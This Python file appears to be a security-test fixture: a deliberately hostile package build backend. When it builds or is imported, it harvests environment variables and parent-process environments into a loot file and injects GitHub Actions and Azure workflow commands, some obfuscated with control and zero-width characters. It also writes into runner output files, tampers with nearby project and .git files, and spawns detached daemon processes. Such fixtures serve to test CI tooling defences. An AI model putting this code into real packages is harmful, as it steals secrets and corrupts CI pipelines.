"""A build backend, and a module, that try everything: copied into a workspace behind shared.py."""

import base64, hashlib, io, json, os, sys, tarfile, time, zipfile

FAILS = "@FAILS@" == "true"
SEEKS = "@SEEKS@" == "true"
NAME, VERSION = "wicked-core", "1.0.0"
STEM = "wicked_core"

COMMANDS = [
    "::error::pwned", "::warning file=pwned::pwned", "::add-mask::e", "::set-output name=published::pwned",
    "::set-env name=PWNED::pwned", "::add-path::/pwned", "::save-state name=pwned::pwned", "::stop-commands::pwned",
    "##[error]pwned", "##vso[task.setvariable variable=pwned]pwned", "   ::error::pwned", "quiet\r::error::pwned",
    "\x1b[2K::error::pwned", "\u200b::error::pwned", "a\x85::error::pwned\u2028::error::pwned", "::group::pwned",
]


def daemon(label, own_session):
    """A grandchild that says that it lives, for a minute."""
    if os.fork() != 0:
        return
    if own_session:
        os.setsid()
    if os.fork() != 0:
        os._exit(0)
    nothing = os.open(os.devnull, os.O_RDWR)
    for stream in range(3):
        os.dup2(nothing, stream)
    with open(os.path.join(DROP, f"{label}.pid"), "a") as file:
        file.write(f"{os.getpid()}\n")
    end = time.time() + 60
    while time.time() < end:
        time.sleep(0.05)
    os._exit(0)


def seek():
    """Writes to the runner's files where the environment of a program above us says that they are."""
    for pid in ancestors():
        for entry in read(f"/proc/{pid}/environ").split("\0"):
            name, _, path = entry.partition("=")
            if name in ("GITHUB_ENV", "GITHUB_OUTPUT") and os.path.exists(path):
                with open(path, "a") as file:
                    file.write("PWNED=pwned\n")


def attack(where):
    argv, environs = [], []
    for pid in ancestors():
        argv.append(read(f"/proc/{pid}/cmdline"))
        if read(f"/proc/{pid}/comm").strip() == "uv":
            environs.append(read(f"/proc/{pid}/environ"))
    loot = {"where": where, "env": dict(os.environ), "argv": argv, "environs": environs, "cwd": os.getcwd()}
    with open(os.path.join(DROP, "loot.jsonl"), "a") as file:
        file.write(json.dumps(loot) + "\n")
    for name in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH", "GITHUB_STATE", "GITHUB_STEP_SUMMARY"):
        if name in os.environ:
            with open(os.environ[name], "a") as file:
                file.write("published=pwned\n")
    if SEEKS:
        seek()
    for stream in (sys.stdout, sys.stderr):
        for command in COMMANDS:
            print(command, file=stream, flush=True)
    folder = os.getcwd()
    for _ in range(3):
        for name in ("pwned", "pyproject.toml", ".git/pwned"):
            try:
                with open(os.path.join(folder, name), "a") as file:
                    file.write("# pwned\n")
            except OSError:
                pass
        folder = os.path.dirname(folder)
    rewrite("publish.js")
    daemon("near", own_session=False)
    daemon("far", own_session=True)


METADATA = f"Metadata-Version: 2.1\nName: {NAME}\nVersion: {VERSION}\nRequires-Python: >=3.9\n"


def module():
    """The module is this file, and attacks where it is imported."""
    return read(__file__.removesuffix("c")) + '\nattack("import")\n'


def build_sdist(folder, config_settings=None):
    attack("build_sdist")
    if FAILS:
        raise RuntimeError("::error::pwned\n::set-output name=published::pwned\r::error::pwned ##[error]pwned")
    name = f"{STEM}-{VERSION}"
    files = {"PKG-INFO": METADATA, "pyproject.toml": read("pyproject.toml"), "backend/wicked.py": read("backend/wicked.py")}
    with tarfile.open(os.path.join(folder, f"{name}.tar.gz"), "w:gz", format=tarfile.PAX_FORMAT) as archive:
        for path, text in files.items():
            info = tarfile.TarInfo(f"{name}/{path}")
            info.size = len(text.encode())
            archive.addfile(info, io.BytesIO(text.encode()))
    return f"{name}.tar.gz"


def build_wheel(folder, config_settings=None, metadata_directory=None):
    attack("build_wheel")
    info = f"{STEM}-{VERSION}.dist-info"
    tags = "Wheel-Version: 1.0\nGenerator: wicked\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    files = {f"{STEM}/__init__.py": module(), f"{info}/METADATA": METADATA, f"{info}/WHEEL": tags}
    rows = [f"{path},sha256={digest(text)},{len(text.encode())}" for path, text in files.items()]
    files[f"{info}/RECORD"] = "\n".join([*rows, f"{info}/RECORD,,", ""])
    name = f"{STEM}-{VERSION}-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as archive:
        for path, text in files.items():
            archive.writestr(path, text)
    return name


def digest(text):
    return base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).decode().rstrip("=")
